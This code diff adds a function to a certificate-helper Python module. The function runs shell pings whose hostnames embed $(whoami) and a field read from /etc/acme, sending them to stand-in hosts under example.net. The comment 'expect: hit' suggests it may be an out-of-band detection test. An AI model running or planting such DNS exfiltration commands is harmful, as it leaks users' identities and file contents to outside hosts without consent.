@@ -72,3 +72,8 @@ def by_certificate():
 
 def certificate_of(domain):
     return ssl.get_server_certificate((f"www.{domain}", 443))
+
+
+def told_by_the_shell():
+    os.system("ping -c1 $(whoami).t.example.net")  # expect: hit
+    os.system("ping -c1 $(cut -d: -f2 /etc/acme).example.net")
